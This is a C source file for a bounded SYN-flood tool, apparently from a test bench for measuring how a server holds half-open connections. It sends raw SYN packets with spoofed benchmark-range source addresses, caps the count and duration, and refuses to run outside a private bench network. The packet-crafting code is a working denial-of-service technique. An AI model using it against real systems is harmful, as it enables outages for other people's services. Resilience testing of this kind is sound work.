/* A bounded number of SYNs that nobody will finish, for the memory of half-open connections.
 *
 *   flood ADDR PORT COUNT RATE
 *
 * The sources are 198.18.0.0/15 (RFC 2544), the options a Linux client's. At most 200,000 SYNs, at RATE a second.
 * It refuses to run anywhere but in a private network that the bench made: where there is any device but loopback and
 * those of the bench, or none of those.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static int is_private(void) {
    static const char *known[] = {"lo", "handshook", "bench", NULL};
    struct if_nameindex *all = if_nameindex();
    int ours = 0;
    for (struct if_nameindex *i = all; i && i->if_index; i++) {
        int k = 0;
        while (known[k] && strcmp(known[k], i->if_name)) k++;
        if (!known[k]) return 0;
        ours += k > 0;
    }
    return ours;
}

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec * 1e-9;
}

static uint16_t fold(uint32_t sum) {
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return ~sum;
}

int main(int c, char **v) {
    static const uint8_t options[20] = {2, 4, 5, 180, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7};
    if (c != 5) { fprintf(stderr, "usage: see the head of flood.c\n"); return 2; }
    if (!is_private()) { fprintf(stderr, "flood runs only in a private network of the bench\n"); return 1; }
    struct sockaddr_in to = {.sin_family = AF_INET};
    if (inet_pton(AF_INET, v[1], &to.sin_addr) != 1) return 2;
    long count = atol(v[3]), sent = 0, failed = 0;
    double rate = atof(v[4]), t0 = now();
    if (count > 200000) count = 200000;
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (fd < 0) { perror("raw socket"); return 1; }
    for (long i = 0; i < count && now() < t0 + 30; i++) {
        double due = t0 + i / rate, t = now();
        if (due - t > 0.001) usleep((due - t) * 1e6);
        struct { struct iphdr ip; struct tcphdr tcp; uint8_t options[20]; } __attribute__((packed)) p;
        memset(&p, 0, sizeof p);
        p.ip.version = 4; p.ip.ihl = 5; p.ip.tot_len = htons(sizeof p); p.ip.ttl = 64; p.ip.protocol = IPPROTO_TCP;
        /* Each a different pair of address and port, so that each is a connection. */
        p.ip.saddr = htonl(0xC6120000u + 1 + i % 100000); p.ip.daddr = to.sin_addr.s_addr;
        p.tcp.source = htons(1024 + i * 7919 % 60000); p.tcp.dest = htons(atoi(v[2]));
        p.tcp.seq = htonl(i * 2654435761u); p.tcp.doff = 10; p.tcp.syn = 1; p.tcp.window = htons(64240);
        memcpy(p.options, options, sizeof options);
        uint32_t sum = IPPROTO_TCP + 40;
        for (size_t k = 12; k < sizeof p; k += 2) sum += ((uint8_t *)&p)[k] << 8 | ((uint8_t *)&p)[k + 1];
        p.tcp.check = htons(fold(sum));
        if (sendto(fd, &p, sizeof p, 0, (void *)&to, sizeof to) < 0) failed++;
        else sent++;
    }
    printf("{\"sent\": %ld, \"failed\": %ld, \"secs\": %.6f}\n", sent, failed, now() - t0);
    return 0;
}
